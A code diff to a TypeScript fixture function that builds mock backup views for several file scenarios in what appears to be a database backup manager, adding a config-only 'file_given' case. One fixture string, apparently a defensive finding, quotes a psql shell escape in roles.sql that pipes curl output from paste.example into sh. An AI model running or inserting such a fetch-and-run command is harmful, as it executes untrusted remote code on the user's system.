@@ -429,22 +429,32 @@ const artifact: ArtifactView = {
 };
 
 export function backupView(row: BackupRow, tables = 42, scenario = ''): BackupView {
-  const made = databaseView(row, ['file_without_database', 'file_unloaded'].includes(scenario) ? 0 : tables);
+  const made = databaseView(row, ['file_without_database', 'file_unloaded', 'file_given'].includes(scenario) ? 0 : tables);
   if (!scenario.startsWith('file_')) return made;
-  const ofPlatform = ['file_backup', 'file_telegram'].includes(scenario) ? { row: { ...made.row, projectId: 'p-booking-manager', project: 'booking-manager' } } : {};
-  const view: BackupView = { ...made, ...ofPlatform, artifact, toolVersion: null, origin: 'SupaManager at manager.example', lsn: null, trees: [{ component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 }, { component: 'config', path: 'config', files: 3, sizeBytes: 9150 }] };
+  const ofPlatform = ['file_backup', 'file_telegram'].includes(scenario) ? { projectId: 'p-booking-manager', project: 'booking-manager' } : {};
+  const view: BackupView = { ...made, row: { ...made.row, ...ofPlatform, components: [...row.components, 'artifact'] }, artifact, toolVersion: null, origin: 'SupaManager at manager.example', lsn: null, trees: [{ component: 'storage', path: 'storage', files: 24_016, sizeBytes: 5_790_000_000 }, { component: 'config', path: 'config', files: 3, sizeBytes: 9150 }] };
   if (scenario === 'file_unloaded')
     return {
       ...view,
-      row: { ...row, components: ['config'], tables: 0, rows: null },
+      row: { ...row, components: ['artifact', 'config'], tables: 0, rows: null },
       parts: [],
       serverVersion: null,
       extensions: [],
       trees: view.trees.slice(1),
       artifact: { ...artifact, unloaded: 'database/roles.sql, line 12: \\! curl -s https://paste.example/x | sh would run a program', isTrusted: false },
     };
+  if (scenario === 'file_given')
+    return {
+      ...view,
+      row: { ...row, components: ['config'], tables: 0, rows: null, level: 'bytes' },
+      parts: [],
+      serverVersion: null,
+      extensions: [],
+      artifact: { ...artifact, what: 'Configuration of abcdefghijklmnopqrst at Supabase', layers: [], madeBy: 'Supabase', madeAtMs: null, remoteId: null, findings: ['auth.json changed: site_url.'] },
+      trees: [{ component: 'config', path: '/config', files: 13, sizeBytes: 48_120 }],
+    };
   if (scenario !== 'file_without_database') return view;
-  return { ...view, row: { ...row, components: ['logs'], tables: 0, rows: null }, parts: [], serverVersion: null, extensions: [], trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }] };
+  return { ...view, row: { ...row, components: ['artifact', 'logs'], tables: 0, rows: null }, parts: [], serverVersion: null, extensions: [], trees: [{ component: 'logs', path: 'logs', files: 41, sizeBytes: 880_000_000 }] };
 }
 
 function databaseView(row: BackupRow, tables: number): BackupView {
